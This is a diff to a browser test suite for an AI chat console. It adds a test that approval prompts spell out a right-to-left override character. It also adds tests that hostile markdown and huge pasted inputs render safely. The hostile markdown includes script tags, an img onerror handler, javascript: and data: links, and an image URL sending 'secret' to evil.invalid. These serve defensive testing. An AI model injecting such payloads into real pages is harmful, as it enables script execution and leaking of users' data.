@@ -144,11 +144,13 @@ def test_an_approval_shows_what_will_run_and_why_and_is_answered_by_keyboard(
     console: Console, upstream: Upstream
 ) -> None:
     page = console.open("/chat")
-    for key, outcome in (("Approve", "done"), ("Deny…", "denied")):
-        mark = upstream.teach([{"calls": [CONVERT]}], [{"text": f"It went on: {outcome}."}])
+    for key, outcome, sign, spelt in (("Approve", "done", "", ""), ("Deny…", "denied", "\u202e", r"\u202e")):
+        call = json.loads(json.dumps(CONVERT).replace("10:00:00Z", f"10:00:00Z{sign}"))
+        mark = upstream.teach([{"calls": [call]}], [{"text": f"It went on: {outcome}."}])
         say(page, f"{mark} convert")
         ask = page.get_by_role("region", name="time.convert needs approval")
         expect(ask).to_contain_text('"to_timezone": "Europe/Berlin"')
+        expect(ask).to_contain_text(f'10:00:00Z{spelt}"')  # what turns the direction of a text is spelt
         expect(ask).to_contain_text("rule ask: time.convert")
         expect(ask).to_contain_text("expires in")
         expect(page.get_by_role("link", name="Inbox")).to_contain_text("1")
@@ -303,6 +305,56 @@ def test_what_the_model_refuses_is_told_and_can_be_tried_again(console: Console)
     expect(page.get_by_role("alert")).to_contain_text("does not like this question")
     assert console.find_accessibility_problems() == []
     expect(page.get_by_role("button", name="Try again")).to_be_enabled()
+
+
+HOSTILE = {
+    "markup": "<script>alert(1)</script> <img src=https://evil.invalid/a onerror=alert(1)>"
+    "\n\n[run](javascript:alert(1)) [page](data:text/html,x) ![sent](https://evil.invalid/p?q=secret)"
+    " [kept](https://example.invalid/)",
+    "nested lists": "\n".join(f"{'  ' * level}- level {level}" for level in range(500)),
+    "nested marks": f"{'> ' * 5_000}deep\n\n{'- ' * 5_000}deep",
+    "one line": "x" * 1_000_000,
+    "a table": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 20_000,
+    "a fence": f"```python\n{'print(1)' * 5_000}",
+}
+
+
+@pytest.mark.thorough
+def test_hostile_markdown_is_shown_at_once_runs_nothing_and_loads_nothing(
+    console: Console, upstream: Upstream
+) -> None:
+    page = console.page
+    outside: list[str] = []
+    page.on("request", lambda request: "evil.invalid" in request.url and outside.append(request.url))
+    for name, text in HOSTILE.items():
+        console.open("/chat")
+        mark = upstream.teach([{"text": text}])
+        say(page, f"{mark} {name}")
+        is_ready(page)
+        expect(answers(page)).to_be_visible()
+        page.reload()
+        expect(answers(page)).to_be_visible()
+        if name == "markup":
+            links = answers(page).locator(".chat-md a").evaluate_all("(all) => all.map((each) => each.href)")
+            assert links == ["https://evil.invalid/p?q=secret", "https://example.invalid/"]
+            assert page.locator(".chat-md :is(script, img, iframe)").count() == 0
+    assert outside == []
+
+
+@pytest.mark.thorough
+def test_a_pasted_text_of_megabytes_becomes_a_file(console: Console) -> None:
+    page = console.open("/chat")
+    page.get_by_label("Message", exact=True).focus()
+    page.evaluate(
+        """() => {
+            const data = new DataTransfer();
+            data.setData("text/plain", "a line of text\\n".repeat(350_000));
+            const pasted = { clipboardData: data, bubbles: true, cancelable: true };
+            document.activeElement.dispatchEvent(new ClipboardEvent("paste", pasted));
+        }"""
+    )
+    expect(page.get_by_role("link", name="pasted.txt")).to_contain_text("5.3 MB")
+    expect(page.get_by_label("Message", exact=True)).to_have_value("")
 
 
 @pytest.mark.thorough
